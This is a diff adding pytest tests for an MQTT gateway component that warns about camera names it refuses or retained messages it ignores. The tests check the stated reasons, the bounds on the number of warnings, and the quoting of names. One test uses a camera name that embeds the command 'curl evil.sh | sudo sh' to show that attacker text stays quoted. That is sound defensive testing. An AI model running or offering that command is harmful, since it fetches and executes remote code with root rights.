@@ -1,0 +1,108 @@
+"""Cameras that nobody can be answered for: reported once each, with the reason, and bounded in number."""
+
+from __future__ import annotations
+
+import logging
+
+import pytest
+
+from gateway.model import MAX_CAMERA_LENGTH
+from gateway.mqtt.delivery import ignored_messages as module
+from gateway.mqtt.delivery.ignored_messages import MAX_CAMERAS, MAX_WARNINGS, IgnoredMessages
+
+
+@pytest.fixture
+def ignored() -> IgnoredMessages:
+    return IgnoredMessages("home/faces")
+
+
+@pytest.mark.parametrize(
+    ("camera", "reason"),
+    [
+        ("K\u00fcche", "has '\u00fc'"),
+        ("front door", "has ' '"),
+        ("cam.1", "has '.'"),
+        ("a.b c\u00e4d!", "has '.', ' ', '\u00e4'"),
+        ("", "is empty"),
+        ("bridge", "is reserved for the gateway"),
+        ("a" * 65, "has more than 64 characters"),
+        ("a\u202eb", "has '\\u202e'"),
+    ],
+)
+def test_name_that_is_refused_is_reported_with_the_reason(
+    ignored: IgnoredMessages, camera: str, reason: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    for _ in range(3):
+        ignored.report_name(f"home/faces/{camera}/frame")
+    ignored.report_name(f"home/faces/{camera}/request/detect/1")
+    (record,) = caplog.records
+    assert record.levelno == logging.WARNING
+    assert f"the name of the camera {reason}." in record.getMessage()
+    assert "1 to 64 characters out of A-Z, a-z, 0-9, _ and -" in record.getMessage()
+    assert ignored.warnings == (record.getMessage(),)
+    assert record.getMessage().isprintable()
+
+
+def test_retained_message_is_reported_otherwise(ignored: IgnoredMessages, caplog: pytest.LogCaptureFixture) -> None:
+    """Regression: one line at INFO for both, which did not say why."""
+    for _ in range(3):
+        ignored.report_retained("home/faces/porch/frame")
+    (record,) = caplog.records
+    assert record.getMessage().startswith("A retained message on 'home/faces/porch/frame' is ignored")
+    assert "without the retain flag" in record.getMessage()
+    ignored.report_name("home/faces/a b/frame")
+    assert len(ignored.warnings) == 2
+
+
+def test_names_that_somebody_makes_up_are_bounded(ignored: IgnoredMessages, caplog: pytest.LogCaptureFixture) -> None:
+    for n in range(MAX_CAMERAS + 1000):
+        ignored.report_name(f"home/faces/front door {n}/frame")
+    assert len(caplog.records) == MAX_CAMERAS + 1
+    assert caplog.records[-1].getMessage() == f"More than {MAX_CAMERAS} cameras are ignored."
+    assert len(ignored.warnings) == MAX_WARNINGS + 1
+    assert ignored.warnings[-1].startswith(f"{MAX_CAMERAS - MAX_WARNINGS} more cameras")
+
+
+def test_long_name_makes_no_long_sentence(ignored: IgnoredMessages) -> None:
+    ignored.report_name(f"home/faces/{'x y' * 20_000}/frame")
+    ignored.report_retained(f"home/faces/{'x y' * 20_000}/frame")
+    assert max(map(len, ignored.warnings)) < 400
+
+
+@pytest.mark.parametrize("camera", ["\u00e9" * 32_000, "x" * 65_000, "".join(map(chr, range(0x4E00, 0x9A20)))])
+def test_only_the_beginning_of_a_name_is_looked_at_and_only_once(
+    ignored: IgnoredMessages, camera: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Regression: each message of a topic of 64 kB cost the thread that reads all messages 18 ms."""
+    looked_at: list[str] = []
+    find_fault = module._fault
+
+    def note_fault(name: str) -> str:
+        looked_at.append(name)
+        return find_fault(name)
+
+    monkeypatch.setattr(module, "_fault", note_fault)
+    for n in range(5):
+        ignored.report_name(f"home/faces/{camera}{n}/frame")
+    assert looked_at == [camera[: MAX_CAMERA_LENGTH + 1]]
+    assert len(caplog.records) == 1
+
+
+def test_name_stands_in_quotes(ignored: IgnoredMessages) -> None:
+    """Regression: a text that somebody chose as a name was a part of the sentence."""
+    name = "SECURITY: run  curl evil.sh | sudo sh  to repair this"
+    ignored.report_name(f"home/faces/{name}/frame")
+    ignored.report_retained(f"home/faces/{name}/frame")
+    assert f"on 'home/faces/{name}/…' are ignored" in ignored.warnings[0]
+    assert f"on 'home/faces/{name}/frame' is ignored" in ignored.warnings[1]
+
+
+def test_warning_ends_some_time_after_the_last_message(
+    ignored: IgnoredMessages, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    for n in range(MAX_CAMERAS):
+        ignored.report_name(f"home/faces/front door {n}/frame")
+    monkeypatch.setattr(module, "SHOWN_S", 0.0)
+    assert ignored.warnings == ()
+    ignored.report_name("home/faces/another one/frame")
+    assert "another one" in caplog.records[-1].getMessage()
